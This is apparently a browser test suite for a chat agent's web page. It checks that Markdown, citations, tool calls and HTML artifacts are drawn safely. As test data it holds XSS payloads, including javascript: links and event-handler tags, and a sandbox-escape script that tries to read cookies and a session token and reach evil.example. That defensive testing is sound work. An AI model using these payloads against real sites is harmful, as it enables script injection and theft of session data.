#!/usr/bin/env python3
"""What the page draws, in a real browser: recordings, Markdown, hostile text, sources, tools, attempts, artifacts in their sealed frame."""
# time limit: 300 s, a browser is started for each test
import contextlib
import itertools
import json
import os
import socket
import tempfile

from lib import FIXTURES, Server, check, equal, main, test, wait_until
from lib.browser import WIDER, Browser


@contextlib.contextmanager
def recorded(**streams):
    """A server whose recordings are these: name=[(type, data), ...] between RunStart and RunDone."""
    with tempfile.TemporaryDirectory() as folder:
        for name, rows in streams.items():
            whole = [("RunStart", {"agent_id": "fixture"}), *rows]
            if whole[-1][0] != "Error":
                whole.append(("RunDone", {}))
            with open(os.path.join(folder, name + ".jsonl"), "w", encoding="utf-8") as f:
                f.writelines(json.dumps({"type": t, "data": {"run_id": "x", **d}, "at_ms": i // 2}) + "\n" for i, (t, d) in enumerate(whole))
        with Server(fixtures_dir=folder) as s:
            yield s


def replay(b, name, count=1, words="Done"):
    b.choose("Agent", "fixture")
    b.choose("Recording", name)
    b.click("button", "Send")
    b.ended(count, words)


def artifact(kind, content, artifact_id="a1", title="Thing"):
    return ("Artifact", {"artifact": {"artifact_id": artifact_id, "artifact_type": kind, "title": title, "content": content, "language": kind, "metadata": {}}})


def text(words):
    return ("ChatDelta", {"text_delta": words})


@test("page_replays_fixtures_and_opens_old_runs", "UI-02 UI-03 UI-04 UI-05 UI-07 UI-08 UI-15 BLD-03 FIX-04 ACC-09")
def replays():
    with open(os.path.join(FIXTURES, "tools.jsonl"), encoding="utf-8") as f:
        lines = [json.loads(line) for line in f]

    def of(kind):
        return [line["data"] for line in lines if line["type"] == kind]
    with Browser() as b, Server(fixtures_dir=FIXTURES) as s:
        b.chat(s)
        replay(b, "tools")
        b.wait(".answer div.prose")
        parts = (".answer", ".reasoning p", ".tool-name", ".tool-body pre", ".artifact-chip .strong", ".sources li summary", ".note li")
        shown = {k: b.texts(k) for k in parts}
        equal([t.strip() for t in shown[".answer"]], [d["text_delta"].strip() for d in of("ChatDelta")])
        equal("".join(shown[".reasoning p"]), "".join(d["text_delta"] for d in of("ReasoningDelta")))
        equal(shown[".tool-name"], [d["tool"] for d in of("ToolStart")])
        values = [json.loads(t) for t in shown[".tool-body pre"]]
        equal(values, list(itertools.chain(*zip((d["input"] for d in of("ToolStart")), (d["output"] for d in of("ToolEnd"))))))
        equal(b.do("return page.locator('.tool').evaluateAll((all) => all.map((e) => e.dataset.state))"), ["ok" if d["ok"] else "failed" for d in of("ToolEnd")])
        equal(shown[".artifact-chip .strong"], [d["artifact"]["title"] for d in of("Artifact")])
        equal([t[1:] for t in shown[".sources li summary"]], [x["title"] for d in of("Citation") for x in d["sources"]])
        equal(len(shown[".note li"]), len(of("MemoryRecall")[0]["items"]))
        first = b.do("return page.url()")
        b.do("await page.locator('.rail').getByRole('link', {name: 'New chat'}).click()")
        replay(b, "failure", words="PROVIDER_ERROR: the model stopped answering")
        b.say("echo", "live again")  # from a recording to a live run
        b.ended(1)
        equal(b.texts(".answer")[-1:], ["live again"])
        b.goto(first)  # and back to what was replayed
        b.wait(".artifact-chip", of("Artifact")[0]["artifact"]["title"])
        b.ended(1)
        b.wait(".answer div.prose")
        equal({k: b.texts(k) for k in shown}, shown)


@test("page_draws_at_most_once_a_frame", "UI-17")
def batches():
    """A thousand deltas: the answer on the page changes as often as there are frames, not as there are deltas."""
    words = [f"w{i} " for i in range(1000)]
    with recorded(many=[text(w) for w in words]) as s, Browser() as b:
        b.chat(s)
        b.do("""await page.evaluate(() => {
                    globalThis.frames = 0; globalThis.changes = 0;
                    const frame = () => { frames++; requestAnimationFrame(frame); };
                    requestAnimationFrame(frame);
                    new MutationObserver((all) => { changes += all.some((r) => (r.target.parentElement ?? r.target).closest?.('.answer')) ? 1 : 0; })
                        .observe(document.body, {subtree: true, childList: true, characterData: true}); })""")
        replay(b, "many")
        equal("".join(b.texts(".answer")).strip(), "".join(words).strip(), "nothing is lost")
        run = s.http.get("/api/runs").json["runs"][0]["run_id"]
        equal(sum(e.type == "ChatDelta" for e in s.events(run)), len(words), "each came alone")
        seen = b.do("return page.evaluate(() => ({frames, changes}))")
        check(0 < seen["changes"] <= seen["frames"] + 3, "it is drawn more often than once a frame", seen)


MARKDOWN = """# Title

Some **bold**, *slanted*, `code` and a [link](https://example.com/x).

| a | b |
|---|---:|
| 1 | 2 |

1. one
   - deep
2. two

```python
def f(x):
    return "text"
```

$$
\\frac{a}{b}
$$

Inline $$x^2$$ ends.

![a picture](https://evil.example/x.png)

```mermaid
graph TD
  A[Start] --> B[End]
```

```mermaid
this is no diagram
```
"""


@test("page_c1_draws_markdown_code_formulas_and_diagrams", "UI-09")
def markdown():
    with Browser() as b, Server() as s:
        b.chat(s)
        b.say("echo", MARKDOWN)
        b.ended(1)
        b.wait(".answer h3", "Title")
        equal(b.do("return page.locator('.answer a').evaluateAll((all) => all.map((e) => [e.textContent, e.href, e.rel]))"),
              [["link", "https://example.com/x", "noopener noreferrer"], ["Image: a picture", "https://evil.example/x.png", "noopener noreferrer"]])
        equal(b.texts(".answer td"), ["1", "2"])
        equal(b.texts(".answer ol > li > ul > li"), ["deep"])
        b.wait(".answer .hljs-keyword", "def")
        b.do("await page.waitForFunction(() => document.querySelectorAll('.answer math').length === 2 && document.querySelector('.answer mfrac'))")
        b.wait(".answer", "The diagram could not be drawn")
        b.do("""await page.waitForFunction(() => document.querySelector('.diagram iframe')?.clientHeight !== 160);
                globalThis.inner = await (await page.locator('.diagram iframe').elementHandle()).contentFrame();
                await inner.waitForFunction(() => document.querySelector('div')?.shadowRoot?.querySelector('svg')?.textContent.includes('Start'))""")
        b.wait(".answer .code pre", "this is no diagram")
        b.do("await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])")
        b.do("await page.locator('.code', {hasText: 'return'}).getByRole('button', {name: 'Copy'}).click()")
        equal(b.do("return page.evaluate(() => navigator.clipboard.readText())"), 'def f(x):\n    return "text"')
        equal((b.axe(), b.do(WIDER)), ([], []))
        b.shot("markdown")


TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=about:blank", "marquee", "object data=x",
        "embed src=x", "style", "link rel=stylesheet href=http://evil.example/x.css", "math", "form action=http://evil.example", "base href=http://evil.example/")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onpointerenter")
LINKS = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "&#106;avascript:alert(1)", "data:text/html,<script>alert(1)</script>",
         "vbscript:alert(1)", "blob:http://evil.example/x", "file:///etc/passwd", "javascript&colon;alert(1)", "//evil.example/x", "\\x6aavascript:alert(1)")
FORMS = ("[x](%s)", "[x](<%s>)", "<%s>", "![x](%s)", "[x]: %s\n\n[x]", "<a href=\"%s\">x</a>")


def hostile():
    yield from (f"<{tag} {event}=alert(1)>" for tag in TAGS for event in EVENTS)
    yield from (form % link for form in FORMS for link in LINKS)
    yield from ("<script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<style>*{display:none}</style>", "<!--<img src=x onerror=alert(1)>-->",
                "<![CDATA[<script>alert(1)</script>]]>", "```html\n<script>alert(1)</script>\n```", "$$\\href{javascript:alert(1)}{x}$$", "$$\\htmlData{a=b}{x}$$",
                "`<img src=x onerror=alert(1)>`", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "\u202egnp.exe \U0001f469\u200d\U0001f4bb e\u0301", "> " * 1000 + "deep",
                "\n".join("  " * i + "- x" for i in range(300)), "[" * 2000, "*" * 3000, "x" * 1000000, "| a" * 3000, "&#x0;&#xD800;")


@test("page_c2_c3_hostile_text_is_inert", "")
def inert():
    payloads = list(hostile())
    check(len(payloads) >= 200, len(payloads))
    rows = [text(("\n\n" + p + "\n\n")[i:i + 50000]) for p in payloads for i in range(0, len(p) + 4, 50000)]
    with recorded(hostile=rows, tools=[("ToolStart", {"tool_call_id": "1", "tool": payloads[0], "input": {"a": payloads[0]}}), ("ToolEnd", {"tool_call_id": "1", "output": payloads[0], "ok": False}),
                                       ("Citation", {"sources": [{"title": payloads[0], "url": "javascript:alert(1)", "snippet": payloads[1]}]}), text("Said [1] and [7].")]) as s, Browser() as b:
        b.chat(s)
        replay(b, "hostile")
        equal(b.do("return page.locator('.answer :is(img, script, svg:not(.lucide), iframe:not(.frame), style, video, audio, object, embed, form, base, link, marquee, input:not([type=checkbox]))').count()"), 0)
        wrong = b.do("""return page.locator('.answer *').evaluateAll((all) => all.flatMap((e) => [...e.attributes].filter((a) => /^on|^style$/.test(a.name) || (a.name === 'href' && !/^https?:|^mailto:|^#/.test(a.value))).map((a) => a.name + '=' + a.value)))""")
        equal(wrong, [])
        b.choose("Agent", "echo")
        b.do("await page.locator('#message').fill('still alive')")
        equal(b.do(WIDER), [])
        b.do("await page.locator('.rail').getByRole('link', {name: 'New chat'}).click()")
        replay(b, "tools")
        equal(b.texts(".tool-name"), [payloads[0]])
        equal(b.count(".run img"), 0)
        b.do("await page.locator('.cite').first().click()")
        b.wait(".cite-card", payloads[0])
        equal(b.count(".cite-card a"), 0)
        equal(b.texts(".cite"), ["1", "?"])  # a source that is not there is marked


@test("page_c5_a_citation_leads_to_its_passage", "UI-05")
def cites():
    sources = [{"title": "First", "url": "https://a.example/1", "snippet": "the passage"}, {"title": "Second", "url": "https://b.example/"}]
    with recorded(cited=[text("It is so.[1] And so.[2]"), ("Citation", {"sources": sources})]) as s, Browser() as b:
        b.chat(s)
        replay(b, "cited")
        b.do("await page.getByRole('button', {name: 'Source 1: First'}).click()")
        b.wait(".cite-card blockquote", "the passage")
        equal(b.do("return page.locator('.cite-card a').getAttribute('href')"), "https://a.example/1")
        b.do("await page.keyboard.press('Escape')")
        equal([t[1:] for t in b.texts(".sources li > details > summary")], ["First", "Second"])


@test("page_d4_groups_tools_and_cuts_long_values", "UI-04")
def tools():
    rows = []
    for i in range(50):
        rows += [("ToolStart", {"tool_call_id": str(i), "tool": f"t.{i}", "input": {"n": i}}), ("ToolEnd", {"tool_call_id": str(i), "output": {"n": i}, "ok": i != 7})]
    big = "y" * 1000000
    rows += [text("then"), ("ToolStart", {"tool_call_id": "big", "tool": "big", "input": {}}), ("ToolEnd", {"tool_call_id": "big", "output": {"text": big}, "ok": True})]
    with recorded(many=rows) as s, Browser() as b:
        b.chat(s)
        replay(b, "many")
        b.wait(".tools.group", "50 tool calls")
        b.wait(".tools.group", "1 failed")
        equal(b.do("return page.locator('.tools.group').evaluate((e) => e.open)"), False)
        b.do("await page.locator('.tools').last().locator('.tool > summary').click()")
        check(len(b.texts(".tools:last-of-type .tool-body pre")[-1]) <= 2100)
        b.do("await page.locator('.tools').last().getByRole('button', {name: /^Open all/}).click()")
        b.do("await page.waitForFunction(() => [...document.querySelectorAll('.tool-body pre')].at(-1).textContent.length > 1000000)")


@test("page_d2_attempts_are_grouped_and_kept", "UI-13 UI-14 UI-16")
def attempts():
    with Browser() as b, Server(fixtures_dir=FIXTURES) as s:
        b.chat(s)
        replay(b, "failure", words="PROVIDER_ERROR")
        equal(b.count(".badge.attempt"), 0)
        b.click("button", "Try again")
        b.do("await page.locator('.badge.attempt', {hasText: 'attempt 2 of 2'}).waitFor()")
        b.wait(".earlier-attempt summary", "Attempt 1: PROVIDER_ERROR")
        b.do("await page.locator('.turn > article .ending-words', {hasText: 'PROVIDER_ERROR'}).waitFor()")
        runs = s.http.get("/api/runs").json["runs"]
        equal([r["attempt"] for r in runs], [2, 1])
        equal(b.count("section.turn"), 1)  # one message, two attempts
        equal(b.do("return page.locator('section.turn').getAttribute('data-root')"), runs[0]["root_run_id"])
        equal(b.do("return page.locator('article.run').evaluateAll((all) => all.map((e) => e.dataset.run))"), [r["run_id"] for r in reversed(runs)])
        b.wait(".turn > article .ending", "tokens unknown")  # what the server does not say is not invented
        b.say("echo", "next")
        b.ended(1)
        equal(b.count("section.turn"), 2)
        b.do("await page.reload()")
        b.do("await page.locator('.badge.attempt', {hasText: 'attempt 2 of 2'}).waitFor()")
        b.wait(".earlier-attempt summary", "Attempt 1: PROVIDER_ERROR")
        equal(b.count("section.turn"), 2)


@test("page_shows_forms_artifacts_and_navigation_of_one_stream", "NEV-14")
def one_bus():
    with Browser() as b, Server() as s:
        b.chat(s)
        b.say("tools", 'tool ui.navigate {"target": "/inbox", "title": "Your inbox"}\nthen\ntool ui.form.request {"title": "Name?", "schema": {"type": "object", "properties": {"n": {"type": "string"}}}}')
        b.wait(".note", "Shows: Your inbox")
        b.do("await page.locator('.schema-form').getByLabel('n', {exact: true}).fill('x'); await page.getByRole('button', {name: 'Submit'}).click()")
        b.ended(1)
        b.do("await page.locator('.note').getByRole('link', {name: 'Your inbox'}).click()")
        b.do("await page.getByRole('heading', {name: 'Inbox'}).waitFor()")


ESCAPES = """<h1>Shown</h1><form action="http://evil.example/" method="post"><input name="a"></form><script>
const tried = {};
const attempt = (name, fn) => { try { const v = fn(); tried[name] = v === undefined || v === null ? 'none' : 'GOT ' + String(v).slice(0, 60); } catch (e) { tried[name] = e.name; } };
attempt('parent document', () => parent.document.title);
attempt('top location', () => { top.location = 'http://evil.example/'; });
attempt('cookies', () => document.cookie);
attempt('local storage', () => localStorage.length);
attempt('session storage', () => parent.sessionStorage.getItem('uar.token'));
attempt('indexed db', () => indexedDB.open('x'));
attempt('popup', () => window.open('http://evil.example/'));
attempt('dialog', () => alert(1));
attempt('form', () => document.forms[0].submit());
const later = [];
const wait = (name, p) => later.push(Promise.resolve(p).then(() => { tried[name] = 'GOT'; }, (e) => { tried[name] = 'failed'; }));
wait('fetch', fetch('/api/runs'));
wait('foreign fetch', fetch('http://evil.example/'));
wait('image', new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'http://evil.example/x.png'; }));
try { const w = new WebSocket('ws://evil.example/'); wait('socket', new Promise((ok, no) => { w.onopen = ok; w.onerror = no; })); } catch (e) { tried.socket = 'failed'; }
wait('worker', new Promise((ok, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = ok; w.onerror = no; }));
wait('script', new Promise((ok, no) => { const x = document.createElement('script'); x.onload = ok; x.onerror = no; x.src = 'http://evil.example/x.js'; document.head.append(x); }));
Promise.all(later).then(() => { document.body.dataset.tried = JSON.stringify(tried); });
</script>"""

INNER = "globalThis.inner = await (await page.locator('.preview iframe').elementHandle()).contentFrame(); "


@test("page_e1_e2_an_artifact_is_shown_in_a_sealed_frame", "UI-06 UI-09 UI-10 SEC-04")
def sealed():
    with recorded(escape=[text("Here it is."), artifact("html", ESCAPES)], svg=[artifact("svg", "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40'><circle r='9'/></svg>")]) as s, Browser() as b:
        b.chat(s)
        replay(b, "escape")
        b.do("seen.frames = true; await page.locator('.artifact-chip button').click()")
        b.wait(".preview", "sealed frame")
        equal(b.do("return page.locator('.preview iframe').evaluate((e) => [e.getAttribute('sandbox'), new URL(e.src).pathname])"), ["allow-scripts", "/page/frame.html"])
        tried = json.loads(b.do(INNER + "await inner.waitForFunction(() => document.body?.dataset.tried); return inner.evaluate(() => document.body.dataset.tried)"))
        equal({k: v for k, v in tried.items() if v.startswith("GOT")}, {}, "nothing of it got out")
        equal(len(tried), 15, tried)
        equal(b.do("return inner.evaluate(() => [document.querySelector('h1').textContent, origin])"), ["Shown", "null"])  # its document was written
        check(b.do("return page.url()").startswith(s.url))
        equal(b.do("return [...seen.hosts].filter((h) => h.includes('evil'))"), [])  # the policy let nothing out
        b.wait(".preview .problem", "Blocked")
        b.do("await page.locator('.panel').getByRole('button', {name: 'Code'}).click()")
        b.wait(".panel pre", "parent document")
        b.do("globalThis.saved = page.waitForEvent('download'); await page.getByRole('button', {name: 'Download Thing.html'}).click()")
        equal(b.do("return (await saved).suggestedFilename()"), "Thing.html")
        b.do("await page.locator('.rail').getByRole('link', {name: 'New chat'}).click()")
        replay(b, "svg")
        b.do("await page.locator('.artifact-chip button').click(); await page.locator('.preview iframe').waitFor()")
        b.do(INNER + "await inner.waitForFunction(() => document.querySelector('div')?.shadowRoot?.querySelector('circle'))")  # a shadow root
        equal(b.axe(), [])


@test("page_an_artifact_has_no_webrtc", "UI-10 SEC-04")
def no_webrtc():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        send = "try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%d'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}" % udp.getsockname()[1]
        content = f"<h1>Shown</h1><iframe srcdoc=\"<script>{send}</script>\"></iframe><script>{send}</script><script>document.body.dataset.left = typeof RTCPeerConnection + typeof webkitRTCPeerConnection; setTimeout(() => {{ document.body.dataset.late = 'yes'; }}, 1500);</script>"
        with recorded(calls=[artifact("html", content)]) as s, Browser() as b:
            b.chat(s)
            replay(b, "calls")
            b.do("seen.frames = true; await page.locator('.artifact-chip button').click(); await page.locator('.preview iframe').waitFor()")
            equal(b.do(INNER + "await inner.waitForFunction(() => document.body?.dataset.late); return inner.evaluate(() => [document.body.dataset.left, document.querySelectorAll('iframe').length])"), ["undefinedundefined", 0])
            try:
                check(False, "it was sent", udp.recv(200))
            except BlockingIOError:
                pass
            b.do("seen.errors.length = 0")


@test("page_e3_errors_of_a_preview_become_events", "UI-11 NEV-16")
def preview_errors():
    content = "<p>x</p><script>console.error('by hand', {a: 1}); setTimeout(() => Promise.reject(new Error('late'))); nothing.here();</script>"
    with recorded(broken=[artifact("html", content, "art7")]) as s, Browser() as b:
        b.chat(s)
        replay(b, "broken")
        b.do("seen.frames = true; await page.locator('.artifact-chip button').click()")
        b.wait(".preview .problem", "3 errors")
        b.wait(".preview .problem", "nothing is not defined")
        run = s.http.get("/api/runs").json["runs"][0]
        got = wait_until(lambda: [e for e in s.http.get(f"/api/sessions/{run['session_id']}/events?stored=1").body.decode().split("\n\n") if "art7" in e and "nothing is not defined" in e], "the event")
        event = json.loads(got[-1].split("data: ", 1)[1])
        equal((event["artifact_id"], event["payload"]["run_id"]), ("art7", run["run_id"]))
        b.do("seen.errors.length = 0")  # those of the frame, which is the point


@test("page_e4_e5_versions_changes_and_an_endless_loop", "UI-06")
def versions():
    rows = [artifact("html", "<p>one</p>\n<p>same</p>"), artifact("html", "<p>two</p>\n<p>same</p>"), artifact("html", "<script>for (;;);</script>", "loop", "Loop")]
    with recorded(two=rows) as s, Browser() as b:
        b.chat(s)
        replay(b, "two")
        b.do("seen.frames = true; await page.locator('.artifact-chip button').nth(1).click()")
        b.do("await page.locator('.panel').getByRole('button', {name: 'Changes v1 to v2'}).click()")
        b.wait(".panel .diff [data-sign='+']", "two")
        equal(b.do("return page.locator('.panel .diff > div').evaluateAll((all) => all.map((e) => e.dataset.sign + e.querySelector('code').textContent))"),
              ["-<p>one</p>", "+<p>two</p>", " <p>same</p>"])
        b.choose("Version", "0")
        b.do("await page.locator('.panel').getByRole('button', {name: 'Code'}).click()")
        b.wait(".panel pre", "one")
        b.do("await page.getByRole('button', {name: 'Close the panel'}).click(); await page.locator('.artifact-chip button').last().click()")
        b.do("await page.locator('.preview iframe').waitFor()")
        b.say("echo", "the page still works")
        b.ended(2)
        b.do("await page.getByRole('button', {name: 'Close the panel'}).click()")


main()
